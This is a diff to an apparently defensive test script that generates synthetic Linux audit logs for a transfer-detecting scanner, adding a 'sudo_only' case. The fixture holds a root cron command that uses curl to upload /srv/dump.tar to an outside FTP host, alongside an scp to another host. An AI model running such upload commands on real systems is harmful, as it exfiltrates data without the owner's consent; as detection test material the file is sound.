@@ -9,7 +9,7 @@ sys.dont_write_bytecode = True
 HERE = pathlib.Path(__file__).resolve().parent
 sys.path.insert(0, str(HERE.parent / "cli"))
 
-from story import Story, scp_job  # noqa: E402
+from story import UNSET, Story, scp_job  # noqa: E402
 
 SSH = ["/usr/bin/ssh", "-x", "-oPermitLocalCommand=no", "-oClearAllForwardings=yes",
        "-oRemoteCommand=none", "-oRequestTTY=no", "-l", "me", "-s", "--"]
@@ -247,6 +247,25 @@ def many_descriptors():
     return story.text()
 
 
+def sudo_only():
+    """A host without a rule: what sudo and cron themselves wrote."""
+    story = Story()
+    for ses, pid, uid, exe, terminal in ((7, 900, 1000, "/usr/sbin/sshd", "ssh"),
+                                         (8, 910, 0, "/usr/sbin/cron", "cron")):
+        story.event(f"type=LOGIN {{}}: pid={pid} uid=0 subj=unconfined old-auid={UNSET} auid={uid} "
+                    f"tty=(none) old-ses={UNSET} ses={ses} res=1")
+        story.user_message("USER_START", pid, uid, ses, "PAM:session_open", exe, "x", terminal)
+    story.user_message("USER_LOGIN", 900, 1000, 7, "login", "/usr/sbin/sshd", "alice", "/dev/pts/0",
+                       "192.0.2.7")
+    for pid, auid, ses, terminal, command in (
+            (950, 1000, 7, "pts/0", "/usr/bin/scp notes.txt me@203.0.113.77:"),
+            (960, 0, 8, "?", "/bin/sh -c /usr/bin/curl -T /srv/dump.tar ftp://203.0.113.9/up/")):
+        story.event(f"type=USER_CMD {{}}: pid={pid} uid={auid} auid={auid} ses={ses} subj=unconfined "
+                    f"msg='cwd=\"/srv\" cmd={command.encode().hex().upper()} "
+                    f"exe=\"/usr/bin/sudo\" terminal={terminal} res=success'")
+    return story.text()
+
+
 def one_job():
     story = scp_job()
     story.chatter()
@@ -263,6 +282,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-forged-login": forged_login,
         "scan-asked-for": asked_for,
         "scan-bounds": many_descriptors,
+        "scan-sudo": sudo_only,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
 for case in sys.argv[1:] or LOGS:
